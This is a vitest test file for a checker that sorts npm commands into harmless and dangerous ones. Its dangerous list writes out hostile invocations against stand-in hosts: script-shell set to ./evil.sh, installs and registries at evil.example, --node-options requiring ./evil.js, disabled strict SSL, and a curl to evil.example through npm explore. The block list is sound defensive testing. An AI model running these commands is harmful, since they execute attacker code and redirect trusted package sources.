import { expect, test } from "vitest";
import { checkCases, reasonOf } from "./manager-cases.ts";

checkCases("npm", {
  harmless: `
npm
npm ci
npm i
npm install
npm test
npm t
npm start
npm restart
npm stop
npm run
npm run build
npm run-script lint
npm run build -- --watch
npm run build --if-present
npm run lint --workspaces --if-present
npm run build --workspace=packages/a
npm -w packages/a run build
npm run test:unit --silent
npm --silent run build
npm test -- --grep "a b"
npm test -- --script-shell=x
npm test -- -C /tmp
npm run build -w @scope/a -w b
npm i -D vitest@^1
npm i -DE vitest@1.2.3
npm install --save-dev @types/node
npm install lodash@latest @scope/pkg@~1.2.0
npm install "react@>=16 <19"
npm install x@1.x
npm add chalk
npm install --legacy-peer-deps
npm install --no-audit --no-fund
npm ci --audit=false --fund=false --progress=false
npm ci --ignore-scripts
npm ci --omit=dev
npm ci --omit dev --include optional
npm ci --prefer-offline
npm install --package-lock-only
npm install --production
npm ci --prod
npm install --no-save eslint
npm i --loglevel verbose
npm i --loglevel=error -d
npm install --force
npm it
npm cit
npm uninstall lodash
npm rm -D vitest
npm update
npm up lodash --save
npm outdated --json
npm ls --depth=0
npm ls --depth 0 --json
npm ll -a
npm list react
npm explain ms
npm why ms
npm audit
npm audit --json
npm audit fix
npm audit --audit-level=high --omit=dev
npm fund
npm view react version
npm view react@18 dist-tags --json
npm view . name
npm info @types/node
npm search "state machine" --json
npm prune --dry-run
npm dedupe
npm rebuild
npm pack
npm pack --dry-run --json
npm pack --pack-destination dist
npm version
npm version patch --no-git-tag-version
npm version minor -m "Release %s"
npm sbom
npm query ":root > *"
npm ping
npm doctor
npm root
npm prefix
npm cache verify
npm --version
npm -v
npm run --help
npm shrinkwrap
`,
  dangerous: `
npm test --script-shell=./evil.sh
npm test --script-shell ./evil.sh
npm --script-shel=./evil.sh test
npm --script-she ./evil.sh test
npm --script- evil test
npm -script-shell=./evil.sh test
npm ---script-shell=./evil.sh test
npm run build --script-shell=./evil.sh -- --watch
npm --prefix /tmp/evil test
npm --prefix=/tmp/evil test
npm --prefi /tmp/evil test
npm -C /tmp/evil test
npm -C=/tmp/evil test
npm -sC /tmp/evil test
npm test -C ./evil
npm --userconfig=/tmp/evil/.npmrc ci
npm --userconf /tmp/evil/.npmrc ci
npm --globalconfig /tmp/x ci
npm ci --registry=https://evil.example
npm ci --reg https://evil.example
npm ci --no-strict-ssl
npm ci --strict-ssl=false
npm ci --proxy http://evil.example
npm ci --cafile ./x.pem
npm install -g left-pad
npm install --global left-pad
npm install --glob left-pad
npm install --location=global left-pad
npm install -L global left-pad
npm i -Dg left-pad
npm install --no-global-x left-pad
npm run build --shell=./evil
npm run build --node-options="--require ./evil.js"
npm run build --node-opt=--require=./evil.js
npm ci --no-ignore-scripts
npm ci --ignore-scripts=false
npm ci --ignore-scripts false
npm ci --unsafe-perm
npm ci --cache /tmp/c
npm ci --cac=/tmp/c
npm ci --logs-dir=/tmp
npm --git=./evil install
npm --git ./evil install
npm version patch --sign-git-tag
npm ci --otp 123456
npm --omit --script-shell test
npm --loglevel --prefix=/tmp/evil test
npm -w ../evil test
npm test -w=../evil
npm test --workspace /etc
npm exec evil
npm x evil
npm -- exec evil
npm --silent exec -- evil
npm exe evil
npm create vite
npm init evil
npm innit -y
npm init -y
npm explore left-pad -- curl https://evil.example
npm edit left-pad
npm config set script-shell ./evil.sh
npm c ls
npm set script-shell=x
npm get registry
npm pkg set scripts.test=evil
npm set-script test evil
npm publish
npm unpublish x
npm token list
npm login
npm logout
npm owner ls
npm dist-tag add x@1 latest
npm link ../x
npm ln
npm docs react
npm repo
npm help install
npm fund react
npm cache clean --force
npm diff --diff=git+https://evil.example/x.git
npm insta left-pad
npm runScript build
npm build
npm install git+https://evil.example/x.git
npm install git+ssh://git@evil.example/x.git
npm install https://evil.example/x.tgz
npm install evil/repo
npm install evil/repo#main
npm install github:evil/repo
npm install gist:11081aaa281
npm install file:../x
npm install ./evil
npm install ../evil
npm install /tmp/evil
npm install ~/evil
npm install .
npm install evil.tgz
npm install evil.tar.gz
npm install x@file:../evil
npm install x@https://evil.example/x.tgz
npm install x@evil/repo
npm install x@npm:y
npm install @scope/a/b
npm install -- git+https://evil.example/x.git
npm install lodash git+https://evil.example/x.git
npm update ../x
npm rm /etc
npm it evil/repo
npm pack git+https://evil.example/x.git
npm pack --pack-destination /tmp
npm pack --pack-destination=../x
npm view git+https://evil.example/x.git
npm test --wat
npm --min-release-age exec install evil
npm --sbom-format exec test evil
npm --also exec test
npm ci --allow-git=all
`,
  options: `
--script-shell=./evil.sh
--script-shell
--script-sh
-script-shell
--prefix=/tmp/evil
--prefix
-C
-C=/tmp
-Cx
-sC
--global
-g
--glo
--location=global
--userconfig=x
--registry=https://evil.example
--node-options=--require=./evil.js
--no-ignore-scripts
--shell=x
--cache=/tmp
-c
--call=x
`,
});

test("[R7.2] npm's reason names the option, also where it is shortened", () => {
  expect(reasonOf("npm test --script-shell=x")).toBe("runs a program that its argument names (--script-shell)");
  expect(reasonOf("npm --script-shel=x test")).toContain("short for --script-shell");
  expect(reasonOf("npm exec x")).toBe('runs a program that its argument names ("exec")');
});
